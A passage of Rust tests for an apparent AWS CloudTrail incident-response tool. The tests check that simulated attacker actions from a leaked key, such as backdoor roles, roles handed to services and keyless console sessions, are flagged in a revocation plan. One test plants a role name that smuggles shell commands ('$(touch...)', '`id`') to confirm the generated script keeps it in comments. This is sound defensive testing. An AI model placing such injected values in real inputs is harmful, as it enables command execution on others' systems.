    assert!(!doc.contains("Condition") && doc.contains(r#""Action":"*""#), "{doc}");
    assert_eq!(verify(&d, &p).0, 0);
    // The deny taken out of plan.json: verify names the role.
    let mut edited = p.clone();
    edited["actions"].as_array_mut().unwrap().retain(|a| a["type"] != "put_role_policy");
    let (code, v) = verify(&d, &edited);
    assert_eq!(code, 1, "{v}");
    let notes = v["notes"].to_string();
    assert!(notes.contains("NOT CUT: role backup-helper in 111122223333"), "{notes}");
    // A deny on sessions issued before the cut-off does not cut the next one.
    let mut older = p.clone();
    for a in older["actions"].as_array_mut().unwrap() {
        if a["type"] == "put_role_policy" {
            let st = json!({"Sid": "TrailhoundRevokeOlderSessions", "Effect": "Deny", "Action": "*", "Resource": "*", "Condition": {"DateLessThan": {"aws:TokenIssueTime": CUT}}});
            a["policy_document"]["Statement"] = json!([st]);
        }
    }
    assert_eq!(verify(&d, &older).0, 1);
    // Deleted since: nothing to deny.
    let (d, _) = build(true, false);
    let p = plan(&d, LEAKED, "strict");
    assert!(deny_all(&p).is_empty(), "{p}");
    assert_eq!(verify(&d, &p).0, 0);
    // Used from the other account: that session is covered by the deny-all.
    let (d, session) = build(false, true);
    let p = plan(&d, LEAKED, "strict");
    assert_eq!(deny_all(&p), vec![role], "{p}");
    let (code, v) = verify(&d, &p);
    assert_eq!(code, 0, "{v}");
    assert!(v["covered"].to_string().contains(&session.unwrap()), "{v}");
    // The attacker filled the role's inline budget (F8) and its quota of managed policies: the
    // deny-all cannot be put, so the plan exits 1 naming the role (it had exited 0, no session
    // of the role being there for the room's NOT COVERED count).
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    s.call(
        &leaked,
        T0,
        iam,
        "CreateRole",
        json!({"roleName": "backdoor", "assumeRolePolicyDocument": trust}),
    );
    let big = format!(
        r#"{{"Version":"2012-10-17","Statement":[{{"Effect":"Allow","Action":"s3:GetObject","Resource":"arn:aws:s3:::b/{}"}}]}}"#,
        "a".repeat(10_100)
    );
    let put = json!({"roleName": "backdoor", "policyName": "p", "policyDocument": big});
    s.call(&leaked, T0 + 10, iam, "PutRolePolicy", put);
    for i in 0..10 {
        let arn = format!("arn:aws:iam::aws:policy/ReadOnlyAccess{i}");
        s.call(
            &leaked,
            T0 + 20 + i,
            iam,
            "AttachRolePolicy",
            json!({"roleName": "backdoor", "policyArn": arn}),
        );
    }
    let d = write(&s, &[]);
    let (code, p, err) = run(&["plan", "--key", LEAKED, "--effective-at", CUT], &d);
    assert_eq!(code, 1, "{err}");
    assert_eq!(p["summary"]["roles_by_hand"], 1, "{}", p["summary"]);
    assert!(p["notes"].to_string().contains("NOT CUT: role backdoor"), "{}", p["notes"]);
    assert_eq!(verify(&d, &p).0, 1);
}

/// A service that takes a role by its bare name, with its path or not (Data Pipeline's fields,
/// Elastic Beanstalk's option values, Glue's `role`, Image Builder's profile, an SSM
/// activation's role) is a route as much as one given an ARN: the plan and verify fail on it;
/// and a pipeline activated with a role parameter, or a launch constraint whose role is inside
/// a JSON string, names none, but is a route all the same. A tag, an attribute or an environment
/// variable called `Role` is not one, nor a role IAM's own call acts on.
#[test]
fn a_service_handed_a_role_by_its_name_fails_the_plan() {
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let pipeline = json!({"pipelineId": "df-0123456789ABCDEFGHIJ", "pipelineObjects": [{"id": "Default", "name": "Default", "fields": [
        {"key": "role", "stringValue": "DataPipelineDefaultRole"},
        {"key": "resourceRole", "stringValue": "DataPipelineDefaultResourceRole"},
        {"key": "scheduleType", "stringValue": "ondemand"}]}]});
    s.call(&leaked, T0, "datapipeline.amazonaws.com", "PutPipelineDefinition", pipeline);
    // A parameter of the pipeline's (`#{myRole}`) given its value when it is activated.
    let activate = json!({"pipelineId": "df-0123456789ABCDEFGHIJ", "parameterValues": [{"id": "myRole", "stringValue": "AdminRole"}]});
    s.call(&leaked, T0 + 5, "datapipeline.amazonaws.com", "ActivatePipeline", activate);
    let template = json!({"applicationName": "web", "templateName": "t",
        "optionSettings": [{"namespace": "aws:autoscaling:launchconfiguration", "optionName": "IamInstanceProfile", "value": "aws-elasticbeanstalk-ec2-role"},
            {"namespace": "aws:elasticbeanstalk:application:environment", "optionName": "SERVER_ROLE", "value": "worker"}],
        "tags": [{"key": "Role", "value": "frontend"}]});
    s.call(
        &leaked,
        T0 + 10,
        "elasticbeanstalk.amazonaws.com",
        "CreateConfigurationTemplate",
        template,
    );
    let transform = json!({"name": "m", "role": "AWSGlueServiceRole-ml", "inputRecordTables": []});
    s.call(&leaked, T0 + 20, "glue.amazonaws.com", "CreateMLTransform", transform);
    let infra = json!({"name": "i", "instanceProfileName": "ImageBuilderProfile"});
    s.call(
        &leaked,
        T0 + 25,
        "imagebuilder.amazonaws.com",
        "CreateInfrastructureConfiguration",
        infra,
    );
    // A launch constraint's role, inside a JSON string.
    let constraint = json!({"portfolioId": "port-abc", "productId": "prod-abc", "type": "LAUNCH", "parameters": "{\"LocalRoleName\":\"AdminRole\"}"});
    s.call(&leaked, T0 + 27, "servicecatalog.amazonaws.com", "CreateConstraint", constraint);
    // With its path, as the service takes it.
    let activation = json!({"iamRole": "service-role/SSMHybridRole", "registrationLimit": 10});
    s.call(&leaked, T0 + 30, "ssm.amazonaws.com", "CreateActivation", activation);
    // Not routes: a tag, an attribute and an environment variable called Role, IAM's own call.
    let table = json!({"tableName": "orders", "tags": [{"key": "Role", "value": "orders"}]});
    s.call(&leaked, T0 + 40, "dynamodb.amazonaws.com", "CreateTable", table);
    let topic = json!({"name": "t", "attributes": {"Role": "alerts"}});
    s.call(&leaked, T0 + 50, "sns.amazonaws.com", "CreateTopic", topic);
    let job = json!({"name": "j", "environment": [{"name": "ROLE", "value": "worker"}]});
    s.call(&leaked, T0 + 60, "codecommit.amazonaws.com", "CreateRepository", job);
    s.call(&leaked, T0 + 70, "iam.amazonaws.com", "GetRole", json!({"roleName": "ReadHere"}));
    let d = write(&s, &[]);
    let dir = d.path().to_str().unwrap();
    let pj = format!("{dir}/plan.json");
    let args = ["plan", "--key", LEAKED, "--effective-at", CUT, "-o", &pj];
    let (code, _, err) = run(&args, &d);
    assert_eq!(code, 1, "{err}");
    let p: Value = serde_json::from_slice(&std::fs::read(&pj).unwrap()).unwrap();
    assert_eq!(p["summary"]["routes_not_followed"], 7, "{}", p["summary"]);
    let reviews = review_reasons(&p);
    for (call, named) in [
        ("PutPipelineDefinition", "DataPipelineDefaultResourceRole, DataPipelineDefaultRole"),
        ("CreateConfigurationTemplate", "aws-elasticbeanstalk-ec2-role"),
        ("CreateMLTransform", "AWSGlueServiceRole-ml"),
        ("CreateInfrastructureConfiguration", "ImageBuilderProfile"),
        ("CreateActivation", "service-role/SSMHybridRole"),
    ] {
        assert_one_route(&reviews, call, named);
    }
    assert!(reviews.iter().any(|r| r.starts_with("CreateConstraint")), "{reviews:?}");
    assert!(reviews.iter().any(|r| r.starts_with("ActivatePipeline")), "{reviews:?}");
    for absent in ["frontend", "orders", "alerts", "worker", "ReadHere"] {
        assert!(!reviews.iter().any(|r| r.contains(absent)), "{absent}: {reviews:?}");
    }
    let (code, v) = verify(&d, &p);
    assert_eq!((code, v["verdict"].as_str()), (1, Some("FAIL")), "{v}");
}

/// More calls that hand a service a role or run code on compute holding one (a review of the
/// list found each with plan exit 0 and verify OK): each is NOT FOLLOWED, by its service.
#[test]
fn more_routes_handed_a_role_fail_the_plan() {
    let calls = [
        ("sagemaker.amazonaws.com", "CreatePresignedDomainUrl"),
        ("apprunner.amazonaws.com", "CreateService"),
        ("emr-serverless.amazonaws.com", "StartJobRun"),
        ("ssm.amazonaws.com", "StartAutomationExecution"),
        ("ssm.amazonaws.com", "RegisterTaskWithMaintenanceWindow"),
        ("scheduler.amazonaws.com", "CreateSchedule"),
        ("ecs.amazonaws.com", "CreateTaskSet"),
        ("eks.amazonaws.com", "CreatePodIdentityAssociation"),
        ("glue.amazonaws.com", "CreateSession"),
        ("sagemaker.amazonaws.com", "CreateModel"),
        ("batch.amazonaws.com", "RegisterJobDefinition"),
        ("sagemaker.amazonaws.com", "UpdateNotebookInstanceLifecycleConfig"),
    ];
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    for (i, (source, name)) in calls.iter().enumerate() {
        let role = json!({"roleArn": format!("arn:aws:iam::{MAIN}:role/worker")});
        s.call(&leaked, T0 + i as i64, source, name, role);
    }
    // Routes through a role the request does not name (a review: plan exit 0): a change set or
    // stack set run with the stack's service role or the target accounts' execution role, an
    // SSM document that existing associations run, an image that running services pull.
    let no_role = [
        ("cloudformation.amazonaws.com", "CreateChangeSet"),
        ("cloudformation.amazonaws.com", "ExecuteChangeSet"),
        ("cloudformation.amazonaws.com", "UpdateStackSet"),
        ("cloudformation.amazonaws.com", "CreateStackInstances"),
        ("ssm.amazonaws.com", "UpdateDocument"),
        ("ssm.amazonaws.com", "UpdateDocumentDefaultVersion"),
        ("ecr.amazonaws.com", "PutImage"),
    ];
    for (i, (source, name)) in no_role.iter().enumerate() {
        s.call(&leaked, T0 + 50 + i as i64, source, name, json!({"name": "prod"}));
    }
    // A launch whose record has no response: the graph cannot tie the instances' sessions to
    // it (a review: an admin profile's instance, plan exit 0). With its response and the
    // instance's session in the trail, the graph follows it, and it is no route.
    s.run_instances(&leaked, T0 + 60, "admin-profile", &["i-0aaa1234def567890"]);
    s.drop_last_response();
    s.run_instances(&leaked, T0 + 61, "app-profile", &["i-0bbb1234def567890"]);
    let app = format!("arn:aws:iam::{MAIN}:role/app");
    let instance = s.instance_session(&app, "i-0bbb1234def567890", T0 + 90, 3600);
    s.call(&instance, T0 + 95, "s3.amazonaws.com", "ListBuckets", Value::Null);
    // IMDSv1 allowed again on an instance: a defence taken down, a review item, not a route.
    let imds = json!({"instanceId": "i-0abc1234def567890", "httpTokens": "optional"});
    s.call(&leaked, T0 + 100, "ec2.amazonaws.com", "ModifyInstanceMetadataOptions", imds);
    let d = write(&s, &[]);
    // And the leaked key's own use of EKS (`CreatePodIdentityAssociation`): what it did
    // inside the cluster is not in CloudTrail (`an_expired_session_or_a_key_that_used_eks_…`).
    let p = plan_with_routes(&d, LEAKED, (calls.len() + no_role.len() + 2) as u64);
    let reviews = review_reasons(&p);
    assert!(
        reviews
            .iter()
            .any(|r| r.starts_with("ModifyInstanceMetadataOptions instance/i-0abc1234def567890")
                && r.contains("require IMDSv2 again")),
        "{reviews:?}"
    );
    for (_, name) in calls {
        assert!(
            reviews
                .iter()
                .any(|r| r.starts_with(&format!("{name} arn:aws:iam::{MAIN}:role/worker"))),
            "{name}: {reviews:?}"
        );
    }
}

/// A call that hands any service a role to act with (`iam:PassRole`) is a route the taint
/// does not follow, whatever the service calls the parameter and however deep the request
/// holds it: the list of such calls by name ([`HANDED_ROLE`] in `blast/classify.rs`) failed
/// open for every service it did not name (S3 Batch Operations, Transfer Family, EventBridge,
/// Elastic Beanstalk's instance profile here: plan exit 0, verify OK). A read-only call, a
/// refused one, one by a clean key, and strings that are not a role's ARN are not counted;
/// a hostile role name reaches plan.sh only inside comments; the Parquet export of the same
/// trail gives the same plan.
#[test]
fn a_call_that_hands_any_service_a_role_fails_the_plan() {
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let clean = s.user_key(MAIN, "release-bot", "AKIAI44QH8DHBEXAMPLE");
    let role = |n: &str| format!("arn:aws:iam::{MAIN}:role/{n}");
    // A path IAM accepts (printable ASCII) that a shell would run.
    let hostile = role("$(touch${IFS}/tmp/trailhound-pwned)/`id`;x|y&z/evil");
    // Nested two levels down, as S3 Control logs it.
    let batch = json!({"CreateJobRequest": {"Operation": {"LambdaInvoke": {"FunctionArn": "arn:aws:lambda:us-east-1:111122223333:function:f"}}, "RoleArn": role("BatchOps"), "Priority": 10}});
    s.call(&leaked, T0, "s3.amazonaws.com", "CreateJob", batch);
    // An IAM name at another service (not_iam): Transfer Family's SFTP user with its role.
    let sftp = json!({"serverId": "s-01234567890abcdef", "userName": "sftp", "role": hostile});
    s.call(&leaked, T0 + 10, "transfer.amazonaws.com", "CreateUser", sftp);
    // Inside an array, beside a decoy in a tag that sorts first: both are named.
    let targets = json!({"rule": "nightly", "tags": [{"key": "x", "value": role("AAA-decoy")}], "targets": [{"id": "1", "arn": "arn:aws:ecs:us-east-1:111122223333:cluster/prod", "roleArn": role("EventsInvoke")}]});
    s.call(&leaked, T0 + 20, "events.amazonaws.com", "PutTargets", targets);
    // An instance profile, as an option setting's value.
    let env = json!({"applicationName": "web", "environmentName": "web-prod", "optionSettings": [{"namespace": "aws:autoscaling:launchconfiguration", "optionName": "IamInstanceProfile", "value": format!("arn:aws:iam::{MAIN}:instance-profile/eb-ec2")}]});
    s.call(&leaked, T0 + 30, "elasticbeanstalk.amazonaws.com", "CreateEnvironment", env);
    // Not counted: read-only, refused, a clean key's, and no role's ARN (a session's, a
    // policy's, an account id that is not twelve digits, a role ARN inside a policy text).
    let read = json!({"roleArn": role("Reader")});
    let id = s.call(&leaked, T0 + 40, "datasync.amazonaws.com", "DescribeTask", read.clone());
    s.edit_records(|_, r| {
        if r["eventID"] == id.as_str() {
            r["readOnly"] = json!(true);
        }
    });
    s.call_full(
        &leaked,
        T0 + 50,
        "datasync.amazonaws.com",
        "CreateTask",
        json!({"cloudWatchLogGroupArn": "x", "roleArn": role("Refused")}),
        Value::Null,
        Some("AccessDenied"),
        "aws-cli/2.15.0",
    );
    s.call(
        &clean,
        T0 + 60,
        "events.amazonaws.com",
        "PutTargets",
        json!({"targets": [{"roleArn": role("CleanTarget")}]}),
    );
    let not_roles = json!({
        "session": format!("arn:aws:sts::{MAIN}:assumed-role/Deploy/x"),
        "policy": format!("arn:aws:iam::{MAIN}:policy/P"),
        "short": "arn:aws:iam::12345:role/Short",
        "empty": format!("arn:aws:iam::{MAIN}:role/"),
        "text": format!("{{\"Principal\":{{\"AWS\":\"{}\"}}}}", role("InPolicyText")),
    });
    s.call(&leaked, T0 + 70, "kinesis.amazonaws.com", "PutRecord", not_roles);
    // A role's ARN stored as data (a parameter, a tag) is not a role handed to a service.
    let param = json!({"name": "/ci/deploy-role", "value": role("StoredParam"), "type": "String"});
    s.call(&leaked, T0 + 80, "ssm.amazonaws.com", "PutParameter", param);
    let tags = json!({"resourcesSet": {"items": [{"resourceId": "i-0abc1234def567890"}]}, "tagSet": {"items": [{"key": "role", "value": role("StoredTag")}]}});
    s.call(&leaked, T0 + 90, "ec2.amazonaws.com", "CreateTags", tags);
    let d = write(&s, &[]);
    let dir = d.path().to_str().unwrap();
    let (pj, sh) = (format!("{dir}/plan.json"), format!("{dir}/plan.sh"));
    let args = ["plan", "--key", LEAKED, "--effective-at", CUT, "-o", &pj, "--script", &sh];
    let (code, _, err) = run(&args, &d);
    assert_eq!(code, 1, "{err}");
    assert!(err.contains("4 call(s) of tainted credentials opened a route"), "{err}");
    let p: Value = serde_json::from_slice(&std::fs::read(&pj).unwrap()).unwrap();
    assert_eq!(p["summary"]["routes_not_followed"], 4, "{}", p["summary"]);
    let reviews = review_reasons(&p);
    for (call, named) in [
        ("CreateJob", role("BatchOps")),
        ("CreateUser", hostile.clone()),
        ("PutTargets", format!("{}, {}", role("AAA-decoy"), role("EventsInvoke"))),
        ("CreateEnvironment", format!("arn:aws:iam::{MAIN}:instance-profile/eb-ec2")),
    ] {
        assert_one_route(&reviews, call, &named);
    }
    for absent in [
        "Reader",
        "Refused",
        "CleanTarget",
        "InPolicyText",
        "Short",
        "PutRecord",
        "StoredParam",
        "StoredTag",
    ] {
        assert!(!reviews.iter().any(|r| r.contains(absent)), "{absent}: {reviews:?}");
    }
    // The attacker's role name is data: in plan.sh only on comment lines, and nothing ran.
    let script = std::fs::read_to_string(&sh).unwrap();
    assert!(script.contains("# WARNING: 4 call(s) of tainted credentials opened a route"));
    let hits: Vec<&str> = script.lines().filter(|l| l.contains("touch")).collect();
    assert!(!hits.is_empty(), "the role is named in plan.sh");
    for line in hits {
        assert!(line.trim_start().starts_with('#'), "{line:?}");
    }
    // Not a role's ARN by IAM's rules (a space, a control character): no route.
    let odd = json!({"role": role("has space"), "other": role("esc\u{1b}[2J")});
    let mut s2 = Scenario::new();
    let leaked2 = s2.user_key(MAIN, "ci-deployer", LEAKED);
    s2.call(&leaked2, T0, "transfer.amazonaws.com", "CreateServer", odd);
    let d2 = write(&s2, &[]);
    let p2 = plan(&d2, LEAKED, "strict");
    assert!(p2["summary"].get("routes_not_followed").is_none(), "{}", p2["summary"]);
    let (code, v) = verify(&d, &p);
    assert_eq!((code, v["verdict"].as_str()), (1, Some("FAIL")), "{v}");
    let notes: Vec<&str> =
        v["notes"].as_array().unwrap().iter().filter_map(|n| n.as_str()).collect();
    assert_eq!(notes.iter().filter(|n| n.starts_with("NOT FOLLOWED:")).count(), 4, "{notes:?}");

    // The same trail exported to Parquet and planned from the export: the same routes.
    let out = TempDir::new().unwrap();
    let parquet = out.path().join("events.parquet");
    let o = bin().args(["export", "-q", "-o"]).arg(&parquet).arg(d.path().join("trail")).output();
    assert_eq!(o.unwrap().status.code(), Some(0));
    let o = bin()
        .args(["plan", "--no-progress", "--key", LEAKED, "--effective-at", CUT])
        .arg(&parquet)
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(1), "{}", String::from_utf8_lossy(&o.stderr));
    let q: Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(q["summary"]["routes_not_followed"], 4, "{}", q["summary"]);
    assert_eq!(q["actions"], p["actions"]);
}

/// A route opened by a call of the attacker's user that carries no access key (its console
/// session's calls may carry none, F17) belongs to no credential, so it was in no tainted
/// credential's events: a review found an attacker-made user's keyless `RunTask` with plan
/// exit 0 and verify OK. It now fails the plan like the leaked key's own; the same user's
/// keyless call before the attacker had it (an existing user whose password the attacker set
/// later), and another user's, are not counted.
#[test]
fn a_route_the_attackers_user_opens_without_a_key_fails_the_plan() {
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let task = |def: &str| json!({"cluster": "prod", "taskDefinition": def});
    // Every RunTask of these trails is logged with no key (F17).
    let keyless = |s: &mut Scenario| {
        s.edit_records(|_, r| {
            if r["eventName"] == "RunTask" {
                r["userIdentity"].as_object_mut().unwrap().remove("accessKeyId");
            }
        })
    };
    // An existing user, its own console session's RunTask before the attacker set its password.
    let ops = s.console_login(MAIN, T0 - 600, "ops");
    s.call(&ops, T0 - 500, "ecs.amazonaws.com", "RunTask", task("ops-before:1"));
    s.update_login_profile(&leaked, T0, "ops");
    s.create_user(&leaked, T0 + 10, "evil");
    s.create_login_profile(&leaked, T0 + 20, "evil");
    let evil = s.console_login(MAIN, T0 + 120, "evil");
    s.call(&evil, T0 + 130, "ecs.amazonaws.com", "RunTask", task("evil-task:1"));
    let ops_again = s.console_login(MAIN, T0 + 200, "ops");
    s.call(&ops_again, T0 + 210, "ecs.amazonaws.com", "RunTask", task("ops-after:1"));
    let bystander = s.console_login(MAIN, T0 + 220, "alice");
    s.call(&bystander, T0 + 230, "ecs.amazonaws.com", "RunTask", task("alice-task:1"));
    keyless(&mut s);
    let d = write(&s, &[]);
    let p = plan_with_routes(&d, LEAKED, 2);
    let reviews = review_reasons(&p);
    // One item for the two (the same call on the same target), counting the second.
    let routes: Vec<&&str> =
        reviews.iter().filter(|r| r.starts_with("RunTask") && r.contains("NOT FOLLOWED")).collect();
    assert_eq!(routes.len(), 1, "{reviews:?}");
    assert!(routes[0].contains("and 1 more such call(s) until 2024-03-11T10:03:30Z"), "{routes:?}");
    let (code, v) = verify(&d, &p);
    assert_eq!((code, v["verdict"].as_str()), (1, Some("FAIL")), "{v}");
    let notes: Vec<&str> =
        v["notes"].as_array().unwrap().iter().filter_map(|n| n.as_str()).collect();
    let named: Vec<&&str> = notes.iter().filter(|n| n.starts_with("NOT FOLLOWED:")).collect();
    assert_eq!(named.len(), 2, "{notes:?}");
    let blast = run(&["blast", "--key", LEAKED, "--format", "json"], &d).1;
    let events: Vec<&str> = blast["persistence"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|p| p["event_name"] == "RunTask")
        .map(|p| p["event_id"].as_str().unwrap())
        .collect();
    assert_eq!(events.len(), 2, "{events:?}");
    // Without the keyless calls of the attacker's users, nothing is counted: here the
    // attacker's `evil` is deleted, and a user an administrator made again under its name
    // later (a review found it counted, plan 1 on every run) is not the attacker's.
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let admin = s.user_key(MAIN, "admin", "AKIAIOSFODNN7ADMIN01");
    s.create_user(&leaked, T0 + 10, "evil");
    s.call(&leaked, T0 + 20, "iam.amazonaws.com", "DeleteUser", json!({"userName": "evil"}));
    s.create_user(&admin, T0 + 100, "evil");
    s.create_login_profile(&admin, T0 + 110, "evil");
    let new_evil = s.console_login(MAIN, T0 + 200, "evil");
    s.call(&new_evil, T0 + 210, "ecs.amazonaws.com", "RunTask", task("new-evil:1"));
    let bystander = s.console_login(MAIN, T0 + 220, "alice");
    s.call(&bystander, T0 + 230, "ecs.amazonaws.com", "RunTask", task("alice-task:1"));
    keyless(&mut s);
    let d = write(&s, &[]);
    let p = plan(&d, LEAKED, "strict");
    assert!(p["summary"].get("routes_not_followed").is_none(), "{}", p["summary"]);
}

/// What the attacker's user does with no key on its calls (a console session's, F17) is in the
/// blast radius as the leaked key's own calls are: its data reads, what it changed (a review
/// item of the plan), its share of the tainted events. The same user's keyless calls before
/// the attacker set its password (a session the owner began), and a bystander's, are not.
#[test]
fn what_the_attackers_user_does_without_a_key_is_in_the_blast_radius() {
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let read = |b: &str| json!({"bucketName": b, "key": "2024/salaries.csv"});
    let attach = |r: &str| json!({"roleName": r, "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"});
    let ops = s.console_login(MAIN, T0 - 600, "ops");
    let before = s.call(&ops, T0 - 500, "s3.amazonaws.com", "GetObject", read("ops-before"));
    s.update_login_profile(&leaked, T0, "ops");
    s.create_user(&leaked, T0 + 10, "evil");
    s.create_login_profile(&leaked, T0 + 20, "evil");
    let evil = s.console_login(MAIN, T0 + 120, "evil");
    let mut keyless = vec![before];
    keyless.push(s.call(&evil, T0 + 130, "s3.amazonaws.com", "GetObject", read("payroll")));
    keyless.push(s.call(
        &evil,
        T0 + 140,
        "iam.amazonaws.com",
        "AttachRolePolicy",
        attach("Deploy"),
    ));
    let ops_again = s.console_login(MAIN, T0 + 200, "ops");
    keyless.push(s.call(&ops_again, T0 + 210, "s3.amazonaws.com", "GetObject", read("ops-after")));
    let alice = s.console_login(MAIN, T0 + 220, "alice");
    keyless.push(s.call(&alice, T0 + 230, "s3.amazonaws.com", "GetObject", read("alice")));
    keyless.push(s.call(
        &alice,
        T0 + 240,
        "iam.amazonaws.com",
        "AttachRolePolicy",
        attach("Alice"),
    ));
    s.edit_records(|_, r| {
        if keyless.iter().any(|id| r["eventID"] == id.as_str()) {
            r["userIdentity"].as_object_mut().unwrap().remove("accessKeyId");
        }
    });
    let d = write(&s, &[]);
    let (code, blast, err) = run(&["blast", "--key", LEAKED, "--format", "json"], &d);
    assert_eq!(code, 0, "{err}");
    let reads: Vec<&str> = blast["data_access"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|a| a["event_name"] == "GetObject")
        .map(|a| a["resource"].as_str().unwrap())
        .collect();
    // ops's read after the attacker set its password is the attacker's as much as evil's.
    let want =
        ["arn:aws:s3:::ops-after/2024/salaries.csv", "arn:aws:s3:::payroll/2024/salaries.csv"];
    assert_eq!(reads, want, "{blast:#}");
    let changed: Vec<(&str, &str)> = blast["persistence"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|p| p["event_name"] == "AttachRolePolicy")
        .map(|p| (p["event_id"].as_str().unwrap(), p["target"].as_str().unwrap()))
        .collect();
    assert_eq!(changed.len(), 1, "{changed:?}");
    assert_eq!(changed[0].0, keyless[2], "{changed:?}");
    assert!(changed[0].1.contains("Deploy"), "{changed:?}");
    // The users' keyless calls are tainted events (of no credential); the others are not.
    let out = d.path().join("events.jsonl");
    let (code, _, err) =
        run(&["blast", "--key", LEAKED, "--events-out", out.to_str().unwrap()], &d);
    assert_eq!(code, 0, "{err}");
    let ids: Vec<String> = std::fs::read_to_string(&out)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap()["event_id"].as_str().unwrap().into())
        .collect();
    for (k, id) in keyless.iter().enumerate() {
        assert_eq!(ids.contains(id), (1..=3).contains(&k), "call {k}: {ids:?}");
    }
    assert_eq!(blast["events"].as_u64().unwrap(), ids.len() as u64);
    let p = plan(&d, LEAKED, "strict");
    let reviews = review_reasons(&p);
    assert!(
        reviews.iter().any(|r| r.starts_with("AttachRolePolicy") && r.contains("Deploy")),
        "{reviews:?}"
    );
    assert!(!reviews.iter().any(|r| r.contains("Alice")), "{reviews:?}");
}

/// A flood of one route (3,000 `RunTask`s of one task definition by the leaked key) is one
/// review item counting the rest, not 3,000 items (about 3 MB of plan.json before); every call
/// is still counted as a route not followed, and another target is its own item.
#[test]
fn a_flood_of_one_route_is_one_review_item_counting_the_rest() {
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let role = format!("arn:aws:iam::{MAIN}:role/TaskRole");
    for i in 0..3000 {
        let task = json!({"cluster": "prod", "taskDefinition": "miner:1", "overrides": {"taskRoleArn": role}});
        s.call(&leaked, T0 + i, "ecs.amazonaws.com", "RunTask", task);
    }
    let other = format!("arn:aws:iam::{MAIN}:role/Other");
    s.call(
        &leaked,
        T0 + 3000,
        "events.amazonaws.com",
        "PutTargets",
        json!({"targets": [{"roleArn": other}]}),
    );
    // The same call handing another role is its own item, naming it (a review found the 21st
    // of 21 RunTasks, with an admin role, named nowhere).
    let admin = format!("arn:aws:iam::{MAIN}:role/AdminTaskRole");
    let task = json!({"cluster": "prod", "taskDefinition": "miner:7", "overrides": {"taskRoleArn": admin}});
    s.call(&leaked, T0 + 3001, "ecs.amazonaws.com", "RunTask", task);
    let d = write(&s, &[]);
    let p = plan_with_routes(&d, LEAKED, 3002);
    let reviews = review_reasons(&p);
    let tasks: Vec<&&str> = reviews.iter().filter(|r| r.starts_with("RunTask")).collect();
    assert_eq!(tasks.len(), 2, "{tasks:?}");
    assert!(
        tasks[0].starts_with(&format!("RunTask {role} at "))
            && tasks[0].contains("and 2999 more such call(s) until 2024-03-11T10:49:59Z"),
        "{}",
        tasks[0]
    );
    assert!(
        tasks[1].starts_with(&format!("RunTask {admin} at 2024-03-11T10:50:01Z")),
        "{}",
        tasks[1]
    );
    assert_eq!(reviews.iter().filter(|r| r.starts_with("PutTargets")).count(), 1, "{reviews:?}");
    let size = serde_json::to_vec(&p).unwrap().len();
    assert!(size < 100_000, "plan.json of {size} bytes");
    let (code, v) = verify(&d, &p);
    assert_eq!((code, v["verdict"].as_str()), (1, Some("FAIL")), "{v}");
}

/// What the attacker's user makes or assumes from a console session whose records carry no
/// key (F17) is the attacker's: such a call was taken for an outside service shared by every
/// keyless call, so a user and key made that way, a key made for another user, and a role
/// assumed were followed by nothing (a review: plan exit 0, verify OK, none of them in the
/// plan). Now each keyless call is its own session of the user (`no-key@EVENT`), which the
/// taint's rule 2 reaches.
#[test]
fn what_the_attackers_user_makes_without_a_key_is_tainted() {
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    s.create_user(&leaked, T0 + 10, "evil");
    s.create_login_profile(&leaked, T0 + 20, "evil");
    let evil = s.console_login(MAIN, T0 + 120, "evil");
    s.create_user(&evil, T0 + 130, "evil3");
    let k3 = s.create_access_key(&evil, T0 + 140, Some("evil3"));
    let alice = s.create_access_key(&evil, T0 + 150, Some("alice"));
    let deploy = format!("arn:aws:iam::{MAIN}:role/Deploy");
    let hop = s.assume_role(&evil, T0 + 160, &deploy, "evil-hop", 43_200);
    s.call(&k3, T0 + 200, "s3.amazonaws.com", "ListBuckets", Value::Null);
    s.call(&alice, T0 + 210, "s3.amazonaws.com", "ListBuckets", Value::Null);
    s.call(&hop, T0 + 220, "s3.amazonaws.com", "ListBuckets", Value::Null);
    // A bystander's keyless call of the same kind is not the attacker's.
    let bob = s.console_login(MAIN, T0 + 300, "bob");
    let bobs = s.create_access_key(&bob, T0 + 310, Some("bob"));
    s.edit_records(|_, r| {
        let user = r["userIdentity"]["userName"].as_str().unwrap_or("");
        if (user == "evil" || user == "bob") && r["userIdentity"]["type"] == "IAMUser" {
            r["userIdentity"].as_object_mut().unwrap().remove("accessKeyId");
        }
    });
    let d = write(&s, &[]);
    let p = plan(&d, LEAKED, "strict");
    let keys = deactivated(&p);
    for k in [&k3.key, &alice.key] {
        assert!(keys.contains(&k.as_str()), "{k} deactivated: {keys:?}");
    }
    assert!(!keys.contains(&bobs.key.as_str()), "the bystander's key: {keys:?}");
    assert!(principals(&p, "put_user_policy").contains(&format!("arn:aws:iam::{MAIN}:user/evil3")));
    assert!(principals(&p, "put_role_policy").contains(&deploy), "{p:#}");
    let tainted = tainted_ids(&d, LEAKED);
    assert!(tainted.iter().any(|t| t.contains(&hop.key)), "{tainted:?}");
    let (code, v) = verify(&d, &p);
    assert_eq!((code, v["verdict"].as_str()), (0, Some("OK")), "{v}");

    // Another account's user let in by the trust policy the attacker set, assuming the role
    // from a keyless console session: from outside, as such a call was before it became a
    // session of its own (the review of that change found it untainted, plan 0, verify OK).
    // And a session the owner began before the attacker set the password (its creationDate)
    // is the owner's: what it makes is not taken.
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
